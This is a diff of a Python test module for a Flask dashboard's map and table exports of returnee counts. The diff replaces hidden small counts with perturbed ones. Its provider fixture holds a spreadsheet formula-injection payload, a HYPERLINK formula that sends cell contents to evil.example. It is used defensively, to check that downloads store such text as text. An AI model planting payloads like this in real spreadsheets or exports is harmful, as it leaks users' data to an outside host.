@@ -36,11 +36,20 @@ from tests.known_data import add_users
 
 KHULNA, SYLHET = f.KHULNA, f.SYLHET
 GOLAPGANJ, OSMANINAGAR, BEANIBAZAR, DUMURIA = f.GOLAPGANJ, "BD60910060", "BD60910017", f.DUMURIA
-# Returnees per upazila and return group. The officer (Sylhet) sees Osmaninagar's 2 and
-# Beanibazar's 3 hidden (below the threshold of 5); two are hidden, so no third is hidden beside them.
+# Returnees per upazila and return group. The officer (Sylhet) gets every count perturbed
+# (dashboard.disclosure): Osmaninagar's 2 and Beanibazar's 3 as 0 or 5, Golapganj's 7 as 5 to 9.
 RETURNEES = {GOLAPGANJ: (7, ReturnGroup.EU), OSMANINAGAR: (2, ReturnGroup.EU), BEANIBAZAR: (3, ReturnGroup.TRANSIT),
              DUMURIA: (6, ReturnGroup.EU)}
-HIDDEN_FOR_OFFICER = {OSMANINAGAR, BEANIBAZAR}
+
+
+def _may_publish(true: int, shown: object) -> bool:
+    """Whether ``shown`` is a value the officer's perturbed count of ``true`` people can take:
+    a whole number, 0 or 5 for 1 to 4 people, within 2 of the truth (and never 1 to 4) above."""
+    if not isinstance(shown, int | float) or pd.isna(shown) or shown != int(shown):
+        return False
+    if 1 <= true <= 4:
+        return shown in (0, 5)
+    return abs(shown - true) <= 2 and not 1 <= shown <= 4
 # Providers in Golapganj: text that looks like a formula, and phone numbers in international form.
 PROVIDERS = [
     {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "organisation": "@SUM(A1:A9)",
@@ -93,14 +102,19 @@ def _download(client: FlaskClient, search: str, what: str, fmt: str, lang: str =
     return base64.b64decode(response.get_json()["response"]["district-map-download"]["data"]["content"])
 
 
-def _expected_values(role: str, view: str) -> dict[str, int | None]:
-    """The map's value per area from this module's rows: None where the officer's count is hidden."""
+def _expected_values(role: str, view: str) -> dict[str, int]:
+    """The true count per area on the map, from this module's rows (exact for headquarters;
+    the officer's must be a value :func:`_may_publish` allows)."""
     if view == "national":
         totals = {SYLHET: sum(n for u, (n, _g) in RETURNEES.items() if u.startswith(SYLHET)),
                   KHULNA: RETURNEES[DUMURIA][0]}
         return totals if role == "hq" else {SYLHET: totals[SYLHET]}
-    return {u: (None if role == "officer" and u in HIDDEN_FOR_OFFICER else n)
-            for u, (n, _g) in RETURNEES.items() if u.startswith(SYLHET)}
+    return {u: n for u, (n, _g) in RETURNEES.items() if u.startswith(SYLHET)}
+
+
+def _as_seen(role: str, true: int, shown: object) -> bool:
+    """Headquarters see the true count; the officer a published one."""
+    return shown == true if role == "hq" else _may_publish(true, shown)
 
 
 def _read_geojson(data: bytes, folder: Path, name: str) -> Any:
@@ -145,11 +159,10 @@ def test_ex020_map_geojson_round_trips_through_gdal(clients: dict[str, FlaskClie
         assert pd.api.types.is_numeric_dtype(frame["value"]), frame["value"].dtype
         expected = _expected_values(role, view)
         for pcode, value in expected.items():
-            if value is None:
-                assert pd.isna(areas.loc[pcode, "value"]) and areas.loc[pcode, "value_hidden"] == 1
-            else:
-                assert areas.loc[pcode, "value"] == value and areas.loc[pcode, "value_hidden"] == 0
-        assert areas["value_hidden"].astype(bool).sum() == sum(v is None for v in expected.values())
+            assert _as_seen(role, value, areas.loc[pcode, "value"]) and areas.loc[pcode, "value_hidden"] == 0
+        # A count is never hidden (perturbed instead); the flag column is there for values that
+        # rest on too few people (tests/test_exports.py writes one).
+        assert not areas["value_hidden"].astype(bool).any()
         _check_layers(frame, role, view)
     assert columns["en"] == columns["bn"]  # a style built on field names works in both languages
 
@@ -165,9 +178,9 @@ def _check_layers(frame: Any, role: str, view: str) -> None:
                                                               strict=True), strict=True))
         for upazila, (count, _group) in RETURNEES.items():
             if upazila.startswith(SYLHET):
-                shown, flag = by_upazila[upazila]
-                hidden = role == "officer" and upazila in HIDDEN_FOR_OFFICER
-                assert (pd.isna(shown), bool(flag)) == (hidden, hidden) and (hidden or shown == count)
+                # A circle published as 0 is not drawn, so not exported either.
+                shown, flag = by_upazila.get(upazila, (0, 0))
+                assert _as_seen(role, count, shown) and not flag
         assert "return_group" in frame.columns  # the breakdown under its key, not its translated label
         fairs = frame[frame["layer"] == "fairs"]
         assert list(fairs["venue"]) == [FAIR_VENUES[GOLAPGANJ]] and fairs["source_id"].notna().all()
@@ -190,7 +203,7 @@ def test_ex021_csv_downloads_read_back_by_pandas(clients: dict[str, FlaskClient]
                         encoding="utf-8-sig", skiprows=6)
     values = dict(zip(areas.iloc[:, 0], areas.iloc[:, 3], strict=True))
     for pcode, value in _expected_values("officer", "district").items():
-        assert str(values[pcode]) == ("<5" if value is None else str(value))
+        assert _may_publish(value, values[pcode])
 
 
 def test_ex022_xlsx_downloads_store_text_as_text_and_numbers_as_numbers(clients: dict[str, FlaskClient]) -> None:
@@ -211,7 +224,7 @@ def test_ex022_xlsx_downloads_store_text_as_text_and_numbers_as_numbers(clients:
     officer = load_workbook(io.BytesIO(_download(clients["officer"], VIEWS["district"], "areas", "xlsx")))["data"]
     cells = {row[0].value: row[3] for row in officer.iter_rows(min_row=2)}
     for pcode, value in _expected_values("officer", "district").items():
-        assert (cells[pcode].value, cells[pcode].data_type) == (("<5", "s") if value is None else (value, "n"))
+        assert cells[pcode].data_type == "n" and _may_publish(value, cells[pcode].value)
 
 
 @pytest.mark.parametrize(("cell", "in_csv"), [
